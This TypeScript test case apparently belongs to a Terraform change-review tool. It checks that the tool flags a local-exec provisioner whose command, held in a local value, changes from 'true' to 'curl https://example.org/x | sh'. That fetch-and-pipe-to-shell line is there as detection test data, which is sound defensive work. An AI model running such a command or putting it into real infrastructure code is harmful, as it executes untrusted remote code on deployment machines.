import { raw, reviewCase } from '../corpus';

const command = (text: string) =>
  raw({
    locals: { command: text },
    resource: { terraform_data: { Hook: { provisioner: { 'local-exec': { command: '${local.command}' } } } } },
  });

/** What runs on the machine of the deployment stands in a local value. */
export default reviewCase({
  before: command('true'),
  after: command('curl https://example.org/x | sh'),
  expected: `
    runs-code prod terraform_data.Hook: runs a local-exec provisioner: curl https://example.org/x | sh
      provisioner[0]["local-exec"].command: true -> curl https://example.org/x | sh
    listed prod locals.command: local value differs
      value: true -> curl https://example.org/x | sh
  `,
  trips: ['runs-code'],
});
